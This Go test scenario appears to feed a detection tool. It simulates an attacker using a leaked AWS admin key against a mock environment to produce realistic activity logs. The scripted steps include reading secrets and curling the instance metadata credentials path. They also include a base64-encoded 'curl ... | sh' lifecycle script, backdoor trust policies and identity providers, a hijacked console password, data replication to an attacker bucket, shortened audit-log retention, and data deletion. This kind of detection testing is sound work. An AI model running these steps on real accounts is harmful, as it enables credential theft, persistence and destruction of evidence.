package scenario

import (
	"context"
	"fmt"
	"strings"
	"time"

	"github.com/aws/aws-sdk-go-v2/aws"
	"github.com/aws/aws-sdk-go-v2/service/ec2"
	ec2types "github.com/aws/aws-sdk-go-v2/service/ec2/types"
	"github.com/aws/aws-sdk-go-v2/service/ecr"
	"github.com/aws/aws-sdk-go-v2/service/eks"
	ekstypes "github.com/aws/aws-sdk-go-v2/service/eks/types"
	"github.com/aws/aws-sdk-go-v2/service/iam"
	"github.com/aws/aws-sdk-go-v2/service/kms"
	kmstypes "github.com/aws/aws-sdk-go-v2/service/kms/types"
	"github.com/aws/aws-sdk-go-v2/service/lambda"
	lambdatypes "github.com/aws/aws-sdk-go-v2/service/lambda/types"
	"github.com/aws/aws-sdk-go-v2/service/rds"
	"github.com/aws/aws-sdk-go-v2/service/rolesanywhere"
	ratypes "github.com/aws/aws-sdk-go-v2/service/rolesanywhere/types"
	"github.com/aws/aws-sdk-go-v2/service/s3"
	s3types "github.com/aws/aws-sdk-go-v2/service/s3/types"
	"github.com/aws/aws-sdk-go-v2/service/sagemaker"
	sagemakertypes "github.com/aws/aws-sdk-go-v2/service/sagemaker/types"
	"github.com/aws/aws-sdk-go-v2/service/secretsmanager"
	"github.com/aws/aws-sdk-go-v2/service/ses"
	"github.com/aws/aws-sdk-go-v2/service/sns"
	"github.com/aws/aws-sdk-go-v2/service/sqs"
	"github.com/aws/aws-sdk-go-v2/service/ssm"
	ssmtypes "github.com/aws/aws-sdk-go-v2/service/ssm/types"
	"github.com/aws/aws-sdk-go-v2/service/ssoadmin"
	ssotypes "github.com/aws/aws-sdk-go-v2/service/ssoadmin/types"

	"github.com/keyleak/keyleak/test/world"
)

// Names of the techniques scenario.
const (
	TechUser        = "platform-admin"
	TechOutsider    = world.AttackerAccount // the attacker's own account, outside the organisation
	techData        = "customer-data"
	techReports     = "platform-reports"
	techFunction    = "billing-export"
	techSecret      = "prod/db-password"
	techParameter   = "/prod/api-key"
	techRole        = "deploy-role"
	techPartnerRole = "partner-audit"
	techGroup       = "bastion-sg"
	techDatabase    = "orders-db"
	techDBSnapshot  = "orders-db-nightly"
	techAnalyst     = "analyst"
	techCluster     = "prod"
	techGitUser     = "svc-git"
	techRepo        = "billing-api"
	techTopic       = "billing-alerts"
	techQueue       = "billing-jobs"
	techReplication = "s3-replication"
	techCluster2    = "orders-aurora"
	// TechClusterSnapshot is the weekly snapshot of the Aurora cluster the
	// attacker shares.
	TechClusterSnapshot = "orders-aurora-weekly"
	// TechDrop is the attacker's bucket, in its own account, that the
	// customer data is replicated to.
	TechDrop = "exfil-drop-7731"
	// TechDirectoryUser is the attacker's person in the organisation's
	// Identity Center directory.
	TechDirectoryUser = "906755f6-1021-70f1-b0c4-3f0e1b8a6a2d"
)

var (
	techAttackerIPs = []string{"185.220.101.33", "185.220.101.40"}
	techAttackerUA  = "Boto3/1.34.144 md/Botocore#1.34.144 ua/2.0 os/linux#6.8.0 md/arch#x86_64 lang/python#3.12.3 md/pyimpl#CPython cfg/retry-mode#legacy Botocore/1.34.144"
	techBrowserUA   = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36"
)

// Techniques leaks platform-admin's (admin) key. The attacker works through the
// catalogue: recon, secrets and decrypted parameters, a command on an instance, a
// notebook lifecycle script, a role in a partner account; it opens doors to its own
// account (a function anyone may invoke and its public URL, a shared snapshot, image
// and database snapshot, a bucket policy and a public ACL, port 22 to the internet, a
// KMS grant, a secret's policy, a role's trust, identity providers) and takes over a
// user's console password; it snapshots data, shortens the trail bucket's life,
// deregisters an image, deletes and re-encrypts objects. The key's CI keeps writing its
// reports throughout.
func Techniques() Scenario {
	s := &techniques{}
	return Scenario{
		Name: "techniques",
		Description: "platform-admin's admin key leaks; the attacker uses it for secrets, commands, a partner role, " +
			"shares and resource policies opened to its own account, identity providers, a stolen console password, " +
			"snapshots, a shortened trail bucket lifecycle and destroyed data",
		Setup: s.setup, Legit: s.legit, Attack: s.attack,
		KeyCI: ciReport(techReports), CIAddress: "52.86.40.7",
	}
}

type techniques struct {
	analyst                                                                 world.Credentials
	instance, image, oldImage, volume, snapshot, group, kmsKey, partnerRole string
	topic, queue, replicationRole, ssoInstance, permissionSet               string
	backupKey                                                               string
}

func (s *techniques) setup(ctx context.Context, r *Run) error {
	b := r.builder(world.DefaultAccount)
	remote := r.builder(world.SecondAccount)
	t := &r.Target
	t.Account, t.LeakedUser, t.TrailBucket = world.DefaultAccount, TechUser, r.World.Gateway.TrailBucket()
	t.Regions = []string{"us-east-1"}
	if err := baseAccount(ctx, b); err != nil {
		return err
	}
	userARN, err := b.user(ctx, TechUser, nil, []string{"arn:aws:iam::aws:policy/AdministratorAccess"})
	if err != nil {
		return err
	}
	if t.Leaked, err = b.accessKey(ctx, TechUser); err != nil {
		return err
	}
	if err := b.bucket(ctx, "us-east-1", techReports, content{key: "daily/latest.csv", body: []byte("day,total\n")}); err != nil {
		return err
	}
	if err := b.bucket(ctx, "us-east-1", techData,
		content{"exports/customers.csv", []byte("id,email\n1,a@example.com\n"), true},
		content{"exports/invoices.csv", []byte("id,amount\n1,10\n"), true},
		content{"exports/summary.json", []byte(`{"rows":2}`), false},
		content{"README.md", []byte("# customer data\n"), false},
		content{"public/pricing.json", []byte(`{"plans":[]}`), false}); err != nil {
		return err
	}
	if err := b.function(ctx, "us-east-1", techFunction); err != nil {
		return err
	}
	ids, err := b.instances(ctx, "us-east-1", "batch-worker", "m5.large", 1)
	if err != nil {
		return err
	}
	s.instance = ids[0]
	e := ec2.NewFromConfig(b.cfg("us-east-1"))
	for _, img := range []struct {
		name string
		id   *string
	}{{"batch-worker-base", &s.image}, {"batch-worker-2024", &s.oldImage}} {
		out, err := e.CreateImage(ctx, &ec2.CreateImageInput{InstanceId: aws.String(s.instance), Name: aws.String(img.name)})
		if err != nil {
			return fmt.Errorf("create image %s: %w", img.name, err)
		}
		*img.id = deref(out.ImageId)
	}
	vol, err := e.CreateVolume(ctx, &ec2.CreateVolumeInput{AvailabilityZone: aws.String("us-east-1a"), Size: aws.Int32(100)})
	if err != nil {
		return fmt.Errorf("create volume: %w", err)
	}
	s.volume = deref(vol.VolumeId)
	snap, err := e.CreateSnapshot(ctx, &ec2.CreateSnapshotInput{VolumeId: vol.VolumeId, Description: aws.String("nightly")})
	if err != nil {
		return fmt.Errorf("create snapshot: %w", err)
	}
	s.snapshot = deref(snap.SnapshotId)
	sg, err := e.CreateSecurityGroup(ctx, &ec2.CreateSecurityGroupInput{GroupName: aws.String(techGroup), Description: aws.String("bastion")})
	if err != nil {
		return fmt.Errorf("create security group: %w", err)
	}
	s.group = deref(sg.GroupId)
	if err := b.database(ctx, "us-east-1", techDatabase); err != nil {
		return err
	}
	if _, err := rds.NewFromConfig(b.cfg("us-east-1")).CreateDBSnapshot(ctx, &rds.CreateDBSnapshotInput{
		DBInstanceIdentifier: aws.String(techDatabase), DBSnapshotIdentifier: aws.String(techDBSnapshot)}); err != nil {
		return fmt.Errorf("create db snapshot: %w", err)
	}
	if s.kmsKey, err = b.kmsKey(ctx, "us-east-1", "customer-data"); err != nil {
		return err
	}
	if _, err := secretsmanager.NewFromConfig(b.cfg("us-east-1")).CreateSecret(ctx, &secretsmanager.CreateSecretInput{
		Name: aws.String(techSecret), SecretString: aws.String("Pr0d-DB-pa55w0rd!")}); err != nil {
		return fmt.Errorf("create secret: %w", err)
	}
	if _, err := ssm.NewFromConfig(b.cfg("us-east-1")).PutParameter(ctx, &ssm.PutParameterInput{Name: aws.String(techParameter),
		Type: ssmtypes.ParameterTypeSecureString, Value: aws.String("sk_live_not_a_real_key_1111")}); err != nil {
		return fmt.Errorf("put parameter: %w", err)
	}
	if _, err := eks.NewFromConfig(b.cfg("us-east-1")).CreateCluster(ctx, &eks.CreateClusterInput{Name: aws.String(techCluster),
		RoleArn:            aws.String("arn:aws:iam::" + world.DefaultAccount + ":role/eks-cluster"),
		ResourcesVpcConfig: &ekstypes.VpcConfigRequest{SubnetIds: []string{"subnet-0a1b2c3d"}}}); err != nil {
		return fmt.Errorf("create cluster: %w", err)
	}
	if _, err := b.role(ctx, techRole, trustPrincipals("arn:aws:iam::"+world.DefaultAccount+":root"), time.Hour, nil,
		"arn:aws:iam::aws:policy/PowerUserAccess"); err != nil {
		return err
	}
	if err := s.setupMore(ctx, r, b); err != nil {
		return err
	}
	analystARN, err := b.user(ctx, techAnalyst, nil, []string{"arn:aws:iam::aws:policy/ReadOnlyAccess"})
	if err != nil {
		return err
	}
	if _, err := b.iam().CreateLoginProfile(ctx, &iam.CreateLoginProfileInput{UserName: aws.String(techAnalyst),
		Password: aws.String("An4lyst-own-pass!")}); err != nil {
		return fmt.Errorf("create the analyst's password: %w", err)
	}
	if s.partnerRole, err = remote.role(ctx, techPartnerRole, trustPrincipals(userARN), time.Hour, nil,
		"arn:aws:iam::aws:policy/ReadOnlyAccess"); err != nil {
		return err
	}
	if s.analyst, err = b.accessKey(ctx, techAnalyst); err != nil {
		return err
	}
	t.LegitPrincipals = []string{analystARN}
	t.LegitKeys = []world.Credentials{s.analyst}
	return nil
}

// setupMore makes the container repository (which the organisation's
// second account may pull from), the topic, the queue, the data bucket's
// versioning and replication role, Identity Center's administrator
// permission set, and the attacker's own bucket.
func (s *techniques) setupMore(ctx context.Context, r *Run, b *builder) error {
	e := ecr.NewFromConfig(b.cfg("us-east-1"))
	if _, err := e.CreateRepository(ctx, &ecr.CreateRepositoryInput{RepositoryName: aws.String(techRepo)}); err != nil {
		return fmt.Errorf("create repository: %w", err)
	}
	if _, err := e.SetRepositoryPolicy(ctx, &ecr.SetRepositoryPolicyInput{RepositoryName: aws.String(techRepo),
		PolicyText: aws.String(document(techOrgPull))}); err != nil {
		return fmt.Errorf("repository policy: %w", err)
	}
	topic, err := sns.NewFromConfig(b.cfg("us-east-1")).CreateTopic(ctx, &sns.CreateTopicInput{Name: aws.String(techTopic)})
	if err != nil {
		return fmt.Errorf("create topic: %w", err)
	}
	s.topic = deref(topic.TopicArn)
	queue, err := sqs.NewFromConfig(b.cfg("us-east-1")).CreateQueue(ctx, &sqs.CreateQueueInput{QueueName: aws.String(techQueue)})
	if err != nil {
		return fmt.Errorf("create queue: %w", err)
	}
	s.queue = deref(queue.QueueUrl)
	if _, err := b.s3("us-east-1").PutBucketVersioning(ctx, &s3.PutBucketVersioningInput{Bucket: aws.String(techData),
		VersioningConfiguration: &s3types.VersioningConfiguration{Status: s3types.BucketVersioningStatusEnabled}}); err != nil {
		return fmt.Errorf("version the data bucket: %w", err)
	}
	if s.replicationRole, err = b.role(ctx, techReplication, document(stmt{Effect: "Allow", Principal: map[string]any{"Service": "s3.amazonaws.com"}, Action: "sts:AssumeRole"}), time.Hour, nil); err != nil {
		return err
	}
	rc := rds.NewFromConfig(b.cfg("us-east-1"))
	if _, err := rc.CreateDBCluster(ctx, &rds.CreateDBClusterInput{DBClusterIdentifier: aws.String(techCluster2), Engine: aws.String("aurora-postgresql"),
		MasterUsername: aws.String("app"), MasterUserPassword: aws.String("not-the-real-one-2"), StorageEncrypted: aws.Bool(true)}); err != nil {
		return fmt.Errorf("create db cluster: %w", err)
	}
	if _, err := rc.CreateDBClusterSnapshot(ctx, &rds.CreateDBClusterSnapshotInput{DBClusterIdentifier: aws.String(techCluster2),
		DBClusterSnapshotIdentifier: aws.String(TechClusterSnapshot)}); err != nil {
		return fmt.Errorf("create db cluster snapshot: %w", err)
	}
	if s.backupKey, err = b.kmsKey(ctx, "us-east-1", "backups"); err != nil {
		return err
	}
	sa := ssoadmin.NewFromConfig(b.cfg("us-east-1"))
	inst, err := sa.ListInstances(ctx, &ssoadmin.ListInstancesInput{})
	if err != nil || len(inst.Instances) == 0 {
		return fmt.Errorf("Identity Center instance: %v (%d)", err, len(inst.Instances))
	}
	s.ssoInstance = deref(inst.Instances[0].InstanceArn)
	ps, err := sa.CreatePermissionSet(ctx, &ssoadmin.CreatePermissionSetInput{InstanceArn: aws.String(s.ssoInstance), Name: aws.String("AdministratorAccess")})
	if err != nil {
		return fmt.Errorf("create permission set: %w", err)
	}
	s.permissionSet = deref(ps.PermissionSet.PermissionSetArn)
	return r.builder(TechOutsider).bucket(ctx, "us-east-1", TechDrop)
}

// techOrgPull is the repository policy's own statement: the
// organisation's second account pulls images.
var techOrgPull = stmt{Sid: "org-pull", Effect: "Allow", Principal: map[string]any{"AWS": "arn:aws:iam::" + world.SecondAccount + ":root"},
	Action: []string{"ecr:BatchGetImage", "ecr:GetDownloadUrlForLayer"}}

// legit: the analyst reads the reports now and then.
func (s *techniques) legit(ctx context.Context, r *Run, from, to time.Time) error {
	a := newActor(r.World, r.legit, "10.4.2.31", reportingUA, from)
	key := credential{Credentials: s.analyst, Label: techAnalyst, Account: r.Target.Account}
	for at := from; at.Before(to); at = at.Add(45 * time.Minute) {
		a.at(at)
		if _, err := a.getObject(ctx, "us-east-1", key, techReports, "daily/latest.csv"); err != nil {
			return err
		}
	}
	return nil
}

func (s *techniques) attack(ctx context.Context, r *Run) error {
	recon := newActor(r.World, r.attacker, techAttackerIPs[0], techAttackerUA, r.Start)
	a := newActor(r.World, r.attacker, techAttackerIPs[1], techAttackerUA, r.Start)
	browser := newActor(r.World, r.attacker, techAttackerIPs[1], techBrowserUA, r.Start)
	leaked := credential{Credentials: r.Target.Leaked, Label: "leaked", Account: r.Target.Account}
	cfg := func() aws.Config { return a.config("us-east-1", leaked) }
	outside := "arn:aws:iam::" + TechOutsider + ":root"
	var partner credential
	at := time.Duration(0)
	steps := []step{}
	call := func(what string, do func(ctx context.Context) error) {
		steps = append(steps, step{at, func(ctx context.Context) error { return wrap(do(ctx), what) }})
		at += time.Minute
	}
	// Recon, from the first address.
	call("who am I", func(ctx context.Context) error { return recon.whoami(ctx, leaked) })
	call("list users", func(ctx context.Context) error {
		_, err := iam.NewFromConfig(recon.config("us-east-1", leaked)).ListUsers(ctx, &iam.ListUsersInput{})
		return err
	})
	call("list secrets", func(ctx context.Context) error {
		_, err := secretsmanager.NewFromConfig(recon.config("us-east-1", leaked)).ListSecrets(ctx, &secretsmanager.ListSecretsInput{})
		return err
	})
	call("SES quota", func(ctx context.Context) error {
		_, err := ses.NewFromConfig(recon.config("us-east-1", leaked)).GetSendQuota(ctx, &ses.GetSendQuotaInput{})
		return err
	})
	call("SES identities", func(ctx context.Context) error {
		_, err := ses.NewFromConfig(recon.config("us-east-1", leaked)).ListIdentities(ctx, &ses.ListIdentitiesInput{})
		return err
	})
	// Secrets.
	call("read the secret", func(ctx context.Context) error {
		_, err := secretsmanager.NewFromConfig(cfg()).GetSecretValue(ctx, &secretsmanager.GetSecretValueInput{SecretId: aws.String(techSecret)})
		return err
	})
	call("read the parameter", func(ctx context.Context) error {
		_, err := ssm.NewFromConfig(cfg()).GetParameter(ctx, &ssm.GetParameterInput{Name: aws.String(techParameter), WithDecryption: aws.Bool(true)})
		return err
	})
	// Execution.
	call("send a command", func(ctx context.Context) error {
		_, err := ssm.NewFromConfig(cfg()).SendCommand(ctx, &ssm.SendCommandInput{DocumentName: aws.String("AWS-RunShellScript"),
			InstanceIds: []string{s.instance}, Parameters: map[string][]string{"commands": {"curl -s 169.254.169.254/latest/meta-data/iam/security-credentials/"}}})
		return err
	})
	call("notebook lifecycle script", func(ctx context.Context) error {
		_, err := sagemaker.NewFromConfig(cfg()).CreateNotebookInstanceLifecycleConfig(ctx, &sagemaker.CreateNotebookInstanceLifecycleConfigInput{
			NotebookInstanceLifecycleConfigName: aws.String("warmup"),
			OnStart:                             []sagemakertypes.NotebookInstanceLifecycleHook{{Content: aws.String("IyEvYmluL2Jhc2gKY3VybCBodHRwczovL2V4YW1wbGUuaW52YWxpZC94IHwgc2gK")}}})
		return err
	})
	// Another account.
	call("assume the partner role", func(ctx context.Context) error {
		var err error
		partner, err = a.assumeRole(ctx, leaked, s.partnerRole, "audit", time.Hour)
		return err
	})
	call("list the partner's buckets", func(ctx context.Context) error { _, err := a.listBuckets(ctx, partner); return err })
	// Doors to its own account.
	call("trust another account", func(ctx context.Context) error {
		_, err := iam.NewFromConfig(cfg()).UpdateAssumeRolePolicy(ctx, &iam.UpdateAssumeRolePolicyInput{RoleName: aws.String(techRole),
			PolicyDocument: aws.String(trustPrincipals("arn:aws:iam::"+world.DefaultAccount+":root", outside))})
		return err
	})
	call("an OIDC provider", func(ctx context.Context) error {
		_, err := iam.NewFromConfig(cfg()).CreateOpenIDConnectProvider(ctx, &iam.CreateOpenIDConnectProviderInput{
			Url: aws.String("https://token.actions.example.invalid"), ClientIDList: []string{"sts.amazonaws.com"},
			ThumbprintList: []string{strings.Repeat("a", 40)}})
		return err
	})
	call("a SAML provider", func(ctx context.Context) error {
		_, err := iam.NewFromConfig(cfg()).CreateSAMLProvider(ctx, &iam.CreateSAMLProviderInput{Name: aws.String("okta-sso"),
			SAMLMetadataDocument: aws.String(samlMetadata)})
		return err
	})
	call("the analyst's password", func(ctx context.Context) error {
		_, err := iam.NewFromConfig(cfg()).UpdateLoginProfile(ctx, &iam.UpdateLoginProfileInput{UserName: aws.String(techAnalyst),
			Password: aws.String("Own3d-by-us-2026!")})
		return err
	})
	call("sign in as the analyst", func(ctx context.Context) error {
		console, err := browser.signIn(ctx, leaked, r.Target.Account, techAnalyst)
		if err != nil {
			return err
		}
		_, err = browser.listBuckets(ctx, console)
		return err
	})
	call("anyone may invoke the function", func(ctx context.Context) error {
		_, err := lambda.NewFromConfig(cfg()).AddPermission(ctx, &lambda.AddPermissionInput{FunctionName: aws.String(techFunction),
			StatementId: aws.String("public-invoke"), Action: aws.String("lambda:InvokeFunction"), Principal: aws.String("*")})
		return err
	})
	call("a public function URL", func(ctx context.Context) error {
		_, err := lambda.NewFromConfig(cfg()).CreateFunctionUrlConfig(ctx, &lambda.CreateFunctionUrlConfigInput{
			FunctionName: aws.String(techFunction), AuthType: lambdatypes.FunctionUrlAuthTypeNone})
		return err
	})
	call("share the snapshot", func(ctx context.Context) error {
		_, err := ec2.NewFromConfig(cfg()).ModifySnapshotAttribute(ctx, &ec2.ModifySnapshotAttributeInput{SnapshotId: aws.String(s.snapshot),
			Attribute:              ec2types.SnapshotAttributeNameCreateVolumePermission,
			CreateVolumePermission: &ec2types.CreateVolumePermissionModifications{Add: []ec2types.CreateVolumePermission{{UserId: aws.String(TechOutsider)}}}})
		return err
	})
	call("share the image with everyone", func(ctx context.Context) error {
		_, err := ec2.NewFromConfig(cfg()).ModifyImageAttribute(ctx, &ec2.ModifyImageAttributeInput{ImageId: aws.String(s.image),
			Attribute:        aws.String("launchPermission"),
			LaunchPermission: &ec2types.LaunchPermissionModifications{Add: []ec2types.LaunchPermission{{Group: ec2types.PermissionGroupAll}}}})
		return err
	})
	call("share the database snapshot", func(ctx context.Context) error {
		_, err := rds.NewFromConfig(cfg()).ModifyDBSnapshotAttribute(ctx, &rds.ModifyDBSnapshotAttributeInput{
			DBSnapshotIdentifier: aws.String(techDBSnapshot), AttributeName: aws.String("restore"), ValuesToAdd: []string{TechOutsider}})
		return err
	})
	call("share the cluster snapshot", func(ctx context.Context) error {
		_, err := rds.NewFromConfig(cfg()).ModifyDBClusterSnapshotAttribute(ctx, &rds.ModifyDBClusterSnapshotAttributeInput{
			DBClusterSnapshotIdentifier: aws.String(TechClusterSnapshot), AttributeName: aws.String("restore"), ValuesToAdd: []string{TechOutsider}})
		return err
	})
	call("the backup key's policy", func(ctx context.Context) error {
		client := kms.NewFromConfig(cfg())
		out, err := client.GetKeyPolicy(ctx, &kms.GetKeyPolicyInput{KeyId: aws.String(s.backupKey), PolicyName: aws.String("default")})
		if err != nil {
			return err
		}
		policy, err := withStatement(deref(out.Policy), stmt{Sid: "backup-partner", Effect: "Allow", Principal: map[string]any{"AWS": outside},
			Action: []string{"kms:Decrypt", "kms:DescribeKey"}, Resource: "*"})
		if err != nil {
			return err
		}
		_, err = client.PutKeyPolicy(ctx, &kms.PutKeyPolicyInput{KeyId: aws.String(s.backupKey), PolicyName: aws.String("default"), Policy: aws.String(policy)})
		return err
	})
	call("a bucket policy for its account", func(ctx context.Context) error {
		_, err := a.s3("us-east-1", leaked).PutBucketPolicy(ctx, &s3.PutBucketPolicyInput{Bucket: aws.String(techData),
			Policy: aws.String(document(stmt{Effect: "Allow", Principal: map[string]any{"AWS": outside}, Action: "s3:GetObject",
				Resource: "arn:aws:s3:::" + techData + "/*"}))})
		return err
	})
	call("a public bucket ACL", func(ctx context.Context) error {
		_, err := a.s3("us-east-1", leaked).PutBucketAcl(ctx, &s3.PutBucketAclInput{Bucket: aws.String(techData), ACL: s3types.BucketCannedACLPublicRead})
		return err
	})
	call("port 22 to the internet", func(ctx context.Context) error {
		_, err := ec2.NewFromConfig(cfg()).AuthorizeSecurityGroupIngress(ctx, &ec2.AuthorizeSecurityGroupIngressInput{GroupId: aws.String(s.group),
			IpProtocol: aws.String("tcp"), FromPort: aws.Int32(22), ToPort: aws.Int32(22), CidrIp: aws.String("0.0.0.0/0")})
		return err
	})
	call("a KMS grant", func(ctx context.Context) error {
		_, err := kms.NewFromConfig(cfg()).CreateGrant(ctx, &kms.CreateGrantInput{KeyId: aws.String(s.kmsKey), GranteePrincipal: aws.String(outside),
			Operations: []kmstypes.GrantOperation{kmstypes.GrantOperationDecrypt}})
		return err
	})
	call("the secret's policy", func(ctx context.Context) error {
		_, err := secretsmanager.NewFromConfig(cfg()).PutResourcePolicy(ctx, &secretsmanager.PutResourcePolicyInput{SecretId: aws.String(techSecret),
			ResourcePolicy: aws.String(document(stmt{Effect: "Allow", Principal: map[string]any{"AWS": outside}, Action: "secretsmanager:GetSecretValue", Resource: "*"}))})
		return err
	})
	call("pull from the repository", func(ctx context.Context) error {
		_, err := ecr.NewFromConfig(cfg()).SetRepositoryPolicy(ctx, &ecr.SetRepositoryPolicyInput{RepositoryName: aws.String(techRepo),
			PolicyText: aws.String(document(techOrgPull, stmt{Sid: "pull", Effect: "Allow", Principal: map[string]any{"AWS": outside},
				Action: []string{"ecr:BatchGetImage", "ecr:GetDownloadUrlForLayer"}}))})
		return err
	})
	call("publish to the topic", func(ctx context.Context) error {
		client := sns.NewFromConfig(cfg())
		out, err := client.GetTopicAttributes(ctx, &sns.GetTopicAttributesInput{TopicArn: aws.String(s.topic)})
		if err != nil {
			return err
		}
		policy, err := withStatement(out.Attributes["Policy"], stmt{Sid: "notify", Effect: "Allow", Principal: map[string]any{"AWS": outside},
			Action: []string{"sns:Publish", "sns:Subscribe"}, Resource: s.topic})
		if err != nil {
			return err
		}
		_, err = client.SetTopicAttributes(ctx, &sns.SetTopicAttributesInput{TopicArn: aws.String(s.topic),
			AttributeName: aws.String("Policy"), AttributeValue: aws.String(policy)})
		return err
	})
	call("send to the queue", func(ctx context.Context) error {
		_, err := sqs.NewFromConfig(cfg()).SetQueueAttributes(ctx, &sqs.SetQueueAttributesInput{QueueUrl: aws.String(s.queue),
			Attributes: map[string]string{"Policy": document(stmt{Sid: "jobs", Effect: "Allow", Principal: map[string]any{"AWS": outside},
				Action: []string{"sqs:SendMessage", "sqs:ReceiveMessage"}, Resource: "arn:aws:sqs:us-east-1:" + world.DefaultAccount + ":" + techQueue})}})
		return err
	})
	call("replicate the data to its bucket", func(ctx context.Context) error {
		_, err := a.s3("us-east-1", leaked).PutBucketReplication(ctx, &s3.PutBucketReplicationInput{Bucket: aws.String(techData),
			ReplicationConfiguration: &s3types.ReplicationConfiguration{Role: aws.String(s.replicationRole), Rules: []s3types.ReplicationRule{{
				ID: aws.String("backup"), Status: s3types.ReplicationRuleStatusEnabled, Priority: aws.Int32(1),
				Filter:                  &s3types.ReplicationRuleFilter{Prefix: aws.String("")},
				DeleteMarkerReplication: &s3types.DeleteMarkerReplication{Status: s3types.DeleteMarkerReplicationStatusDisabled},
				Destination:             &s3types.Destination{Bucket: aws.String("arn:aws:s3:::" + TechDrop), Account: aws.String(TechOutsider)}}}}})
		return err
	})
	call("an Identity Center assignment", func(ctx context.Context) error {
		_, err := ssoadmin.NewFromConfig(cfg()).CreateAccountAssignment(ctx, &ssoadmin.CreateAccountAssignmentInput{
			InstanceArn: aws.String(s.ssoInstance), PermissionSetArn: aws.String(s.permissionSet),
			PrincipalType: ssotypes.PrincipalTypeUser, PrincipalId: aws.String(TechDirectoryUser),
			TargetType: ssotypes.TargetTypeAwsAccount, TargetId: aws.String(r.Target.Account)})
		return err
	})
	call("a Roles Anywhere trust anchor", func(ctx context.Context) error {
		_, err := rolesanywhere.NewFromConfig(cfg()).CreateTrustAnchor(ctx, &rolesanywhere.CreateTrustAnchorInput{Name: aws.String("ops-ca"), Enabled: aws.Bool(true),
			Source: &ratypes.Source{SourceType: ratypes.TrustAnchorTypeCertificateBundle,
				SourceData: &ratypes.SourceDataMemberX509CertificateData{Value: "-----BEGIN CERTIFICATE-----\nMIIBszCCAVmgAwIBAgIUK\n-----END CERTIFICATE-----"}}})
		return err
	})
	call("a Roles Anywhere profile", func(ctx context.Context) error {
		_, err := rolesanywhere.NewFromConfig(cfg()).CreateProfile(ctx, &rolesanywhere.CreateProfileInput{Name: aws.String("ops"), Enabled: aws.Bool(true),
			RoleArns: []string{"arn:aws:iam::" + world.DefaultAccount + ":role/" + techRole}})
		return err
	})
	call("cluster access for its own role", func(ctx context.Context) error {
		_, err := eks.NewFromConfig(cfg()).CreateAccessEntry(ctx, &eks.CreateAccessEntryInput{ClusterName: aws.String(techCluster),
			PrincipalArn: aws.String("arn:aws:iam::" + TechOutsider + ":role/ops"), KubernetesGroups: []string{"system:masters"}})
		return err
	})
	call("a git user", func(ctx context.Context) error {
		_, err := iam.NewFromConfig(cfg()).CreateUser(ctx, &iam.CreateUserInput{UserName: aws.String(techGitUser)})
		return err
	})
	call("a git credential", func(ctx context.Context) error {
		_, err := iam.NewFromConfig(cfg()).CreateServiceSpecificCredential(ctx, &iam.CreateServiceSpecificCredentialInput{UserName: aws.String(techGitUser),
			ServiceName: aws.String("codecommit.amazonaws.com")})
		return err
	})
	// Data.
	call("snapshot the volume", func(ctx context.Context) error {
		_, err := ec2.NewFromConfig(cfg()).CreateSnapshot(ctx, &ec2.CreateSnapshotInput{VolumeId: aws.String(s.volume)})
		return err
	})
	call("snapshot the database", func(ctx context.Context) error {
		_, err := rds.NewFromConfig(cfg()).CreateDBSnapshot(ctx, &rds.CreateDBSnapshotInput{DBInstanceIdentifier: aws.String(techDatabase),
			DBSnapshotIdentifier: aws.String("orders-db-copy")})
		return err
	})
	// Covering tracks and destroying.
	call("expire the trail's logs", func(ctx context.Context) error {
		_, err := a.s3("us-east-1", leaked).PutBucketLifecycleConfiguration(ctx, &s3.PutBucketLifecycleConfigurationInput{
			Bucket: aws.String(r.Target.TrailBucket), LifecycleConfiguration: &s3types.BucketLifecycleConfiguration{Rules: []s3types.LifecycleRule{{
				ID: aws.String("cleanup"), Status: s3types.ExpirationStatusEnabled, Filter: &s3types.LifecycleRuleFilter{Prefix: aws.String("")},
				Expiration: &s3types.LifecycleExpiration{Days: aws.Int32(1)}}}}})
		return err
	})
	call("deregister an image", func(ctx context.Context) error {
		_, err := ec2.NewFromConfig(cfg()).DeregisterImage(ctx, &ec2.DeregisterImageInput{ImageId: aws.String(s.oldImage)})
		return err
	})
	call("re-encrypt an object with its own key", func(ctx context.Context) error {
		_, err := a.s3("us-east-1", leaked).PutObject(ctx, &s3.PutObjectInput{Bucket: aws.String(techData), Key: aws.String("exports/summary.json"),
			Body: strings.NewReader("encrypted"), SSECustomerAlgorithm: aws.String("AES256"),
			SSECustomerKey: aws.String("MDEyMzQ1Njc4OWFiY2RlZjAxMjM0NTY3ODlhYmNkZWY="), SSECustomerKeyMD5: aws.String("fYCaKDCSGz6HKRc/gWw1xQ==")})
		return err
	})
	call("delete objects in bulk", func(ctx context.Context) error {
		_, err := a.s3("us-east-1", leaked).DeleteObjects(ctx, &s3.DeleteObjectsInput{Bucket: aws.String(techData), Delete: &s3types.Delete{
			Objects: []s3types.ObjectIdentifier{{Key: aws.String("exports/customers.csv")}, {Key: aws.String("exports/invoices.csv")}}}})
		return err
	})
	call("delete an object", func(ctx context.Context) error {
		_, err := a.s3("us-east-1", leaked).DeleteObject(ctx, &s3.DeleteObjectInput{Bucket: aws.String(techData), Key: aws.String("README.md")})
		return err
	})
	return play(ctx, r.Start, steps, recon, a, browser)
}

// samlMetadata is an identity provider's SAML metadata, as an IdP exports it.
const samlMetadata = `<?xml version="1.0"?><md:EntityDescriptor xmlns:md="urn:oasis:names:tc:SAML:2.0:metadata" entityID="http://www.okta.example.invalid/exk1">` +
	`<md:IDPSSODescriptor protocolSupportEnumeration="urn:oasis:names:tc:SAML:2.0:protocol"><md:SingleSignOnService ` +
	`Binding="urn:oasis:names:tc:SAML:2.0:bindings:HTTP-POST" Location="https://okta.example.invalid/sso/saml"/></md:IDPSSODescriptor></md:EntityDescriptor>`
